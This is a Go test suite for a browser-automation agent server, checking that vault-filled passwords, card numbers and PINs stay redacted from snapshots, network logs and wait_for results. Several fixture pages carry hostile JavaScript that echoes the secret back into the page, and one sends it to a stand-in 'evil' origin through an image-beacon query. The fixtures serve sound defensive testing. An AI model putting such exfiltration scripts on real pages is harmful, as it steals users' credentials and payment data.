package tools

import (
	"net/url"
	"strings"
	"syscall"
	"testing"

	"browser-mcp/cdp/browser"
	"browser-mcp/internal/site"
	"browser-mcp/vault"
)

// killBrowser kills Chromium as a crash would.
func killBrowser(t *testing.T, b *browser.Browser) {
	t.Helper()
	if err := syscall.Kill(b.Status().PID, syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
}

// filledShop signs nobody in: it fills the password on a page that shows it in whatever way body says, where PASSWORD
// stands for the field's value as script sees it.
func filledShop(t *testing.T, echo string) (*rig, *agent) {
	t.Helper()
	r := newRig(t).withSite()
	r.site.Page("/echo.html", `<title>Echo</title><form onsubmit="return false"><label>Password <input type="password" name="password" id="password"></label>
<button onclick="show(password.value)">Show</button></form><div id="out"></div><script>function show(v) {`+echo+`}</script>`)
	r.shelf.put("shop", vault.Password, signInPassword, "sbm:origin", r.site.Shop, "sbm:selector", "#password")
	a := r.connect()
	a.clean(signInPassword)
	a.call("navigate", map[string]any{"url": r.site.Shop + "/echo.html"})
	view := a.look()
	a.call("fill_secret", map[string]any{"secret_id": "shop", "element_uid": uid(t, view, `input password`)})
	a.call("click", map[string]any{"element_uid": uid(t, view, `button "Show"`)})
	return r, a
}

// A cut through the middle of a value would leave a part that no scanner recognises.
func TestThreatRedactThenCut(t *testing.T) {
	_, a := filledShop(t, `for (let i = 0; i < 40; i++) { const p = document.createElement('p');
  p.textContent = 'x'.repeat(470 + i) + ' ' + v + ' end'; out.append(p); }`)
	if view := a.look(); !strings.Contains(view, "…") {
		t.Errorf("snapshot of long paragraphs:\n%s\nwant them cut", view)
	}
	a.call("snapshot", map[string]any{"format": "json"})
}

func TestThreatEchoesAreHidden(t *testing.T) {
	_, a := filledShop(t, `document.title = v; location.hash = encodeURIComponent(v); alert(v);
  out.innerHTML = '<p></p><button></button><input name=copy><a>x</a><select><option></option></select>';
  out.querySelector('p').textContent = 'plain ' + v + ' and ' + btoa(v);
  out.querySelector('button').setAttribute('aria-label', v);
  out.querySelector('input').value = v; out.querySelector('input').placeholder = v.toUpperCase();
  out.querySelector('a').href = '/x/' + encodeURIComponent(v) + '?q=' + v;
  out.querySelector('option').textContent = v;
  for (const c of v) { const s = document.createElement('i'); s.tabIndex = 0; s.textContent = c; out.append(s); }`)
	view := a.look()
	if !strings.Contains(view, "plain [REDACTED:shop] and [REDACTED:shop]") {
		t.Errorf("snapshot:\n%s\nwant the paragraph with markers", view)
	}
	a.call("snapshot", map[string]any{"format": "json"})
	a.call("list_tabs", nil)
	a.call("list_network_requests", nil)
	a.call("reload", nil)
}

// The agent asks for the very value: the answer must be the same whether or not the page holds it.
func TestThreatWaitSeesTheProjection(t *testing.T) {
	_, a := filledShop(t, `out.textContent = 'It is ' + v`)
	for _, part := range []string{signInPassword, signInPassword[:9], signInPassword[len(signInPassword)-9:]} {
		asked, err := a.Call(t.Context(), "wait_for", map[string]any{"text": part, "timeout_seconds": 1})
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(asked.Text(), `"met":false`) {
			t.Errorf("wait_for a part of the value = %s, want it not met", asked.Text())
		}
	}
	if text := a.call("wait_for", map[string]any{"text": "It is [REDACTED:shop]"}).Text(); !strings.Contains(text, `"met":true`) {
		t.Errorf("wait_for the marker = %s, want it met", text)
	}
}

func TestThreatQueryIsWithheldAfterAFill(t *testing.T) {
	r, a := filledShop(t, `location = '/bench/small.html?pw=' + encodeURIComponent(v) + '#' + v`)
	a.call("wait_for", map[string]any{"url": "/bench/small.html"})
	if view := a.look(); !strings.Contains(view, "/bench/small.html?[REDACTED:query]") {
		t.Errorf("snapshot:\n%s\nwant the query withheld", view)
	}
	list := a.call("list_network_requests", nil).Text()
	if !strings.Contains(list, "small.html?[REDACTED:query]") || !strings.Contains(list, `"body_withheld":true`) {
		t.Errorf("requests = %s, want query and body withheld", list)
	}
	if !r.site.Received(r.site.Shop, signInPassword) {
		t.Errorf("the page did not send %q", url.QueryEscape("its value"))
	}
}

// A page sends what was filled to an origin that never was, in a query: only a key would be compared there, but the
// request is the filled page's word, and says a password or a card as plainly as a paragraph.
func TestThreatQueryToAnotherOriginIsRedacted(t *testing.T) {
	for kind, value := range map[vault.Kind]string{vault.Password: "Tr0ub4dor&3xy", vault.Card: "4242424242424242"} {
		r := newRig(t).withSite()
		r.site.Page("/pixel.html", `<label>Value <input type=password id=field></label><a href="{{evil}}/">Out</a>
<button onclick="const to = '{{evil}}/collect?v=' + encodeURIComponent(field.value) + '#' + field.value;
document.querySelector('a').href = to; new Image().src = to; document.title = 'Sent'">Send</button>`)
		r.shelf.put("it", kind, value, "sbm:origin", r.site.Shop, "sbm:selector", "#field")
		a := r.connect()
		a.clean(value)
		a.call("navigate", map[string]any{"url": r.site.Shop + "/pixel.html"})
		view := a.look()
		a.call("fill_secret", map[string]any{"secret_id": "it", "element_uid": uid(t, view, `input password`)})
		a.call("click", map[string]any{"element_uid": uid(t, view, `button "Send"`)})
		a.call("wait_for", map[string]any{"text": "Sent"})
		if _, err := r.site.Await(t.Context(), func(q site.Request) bool { return q.Origin == r.site.Evil && q.Contains(value) }); err != nil {
			t.Fatalf("%s: %v", kind, err)
		}
		list := a.call("list_network_requests", nil).Text()
		if !strings.Contains(list, r.site.Evil+"/collect?v=[") {
			t.Errorf("%s: requests = %s, want the query's value hidden", kind, list)
		}
		a.call("snapshot", map[string]any{"format": "json"})
		a.call("navigate", map[string]any{"url": r.site.Evil + "/thanks.html"})
		a.call("list_network_requests", nil) // what is listed elsewhere is still the word of the page before
	}
}

// Chromium restores forms when history goes back to them; the value would stand in a field that nobody tagged.
func TestThreatTaggedBeforeRead(t *testing.T) {
	r := newRig(t).withSite()
	r.site.Page("/pin.html", `<title>PIN</title><form action="/bench/small.html"><label>PIN <input name="pin" id="pin" autocomplete="one-time-code"></label><button>Go</button></form>`)
	r.shelf.put("pin", vault.Code, "048213", "sbm:origin", r.site.Shop, "sbm:selector", "#pin")
	a := r.connect()
	a.clean("048213")
	a.call("navigate", map[string]any{"url": r.site.Shop + "/pin.html"})
	view := a.look()
	a.call("fill_secret", map[string]any{"secret_id": "pin", "element_uid": uid(t, view, `input`)})
	a.call("click", map[string]any{"element_uid": uid(t, view, `button`)})
	a.call("wait_for", map[string]any{"text": "Small page"})
	a.call("go_back", nil)
	if view := a.look(); !strings.Contains(view, filledMarker) {
		t.Errorf("snapshot after going back:\n%s\nwant the field tagged", view)
	}
	a.refused(ElementNotFillable, "holds_secret", "type_text", map[string]any{"element_uid": uid(t, a.look(), `input`), "text": "1"})
}

func TestThreatTaggedFieldIsWriteOnly(t *testing.T) {
	_, a := filledShop(t, ``)
	field := uid(t, a.look(), `input password`)
	a.refused(ElementNotFillable, "holds_secret", "type_text", map[string]any{"element_uid": field, "text": "x"})
	a.call("type_text", map[string]any{"element_uid": field, "text": "other", "clear": true})
}

// The binding is for a path, and the page goes to another one in the moment of writing, without loading anything.
func TestThreatPathIsCheckedInTheWritingTask(t *testing.T) {
	r := newRig(t).withSite()
	r.site.Page("/sign-in", `<input type=password id=field aria-label="Password" onfocus="history.pushState(null, '', '/comments')">`)
	r.shelf.put("shop", vault.Password, signInPassword, "sbm:origin", r.site.Shop, "sbm:url-pattern", "/sign-in")
	a := r.connect()
	a.call("navigate", map[string]any{"url": r.site.Shop + "/sign-in"})
	a.refused(StaleElement, "", "fill_secret", map[string]any{"secret_id": "shop", "element_uid": uid(t, a.look(), `input password`)})
	if view := a.look(); !strings.Contains(view, "/comments") || strings.Contains(view, filledMarker) {
		t.Errorf("snapshot:\n%s\nwant the other path, and nothing in the field", view)
	}
}
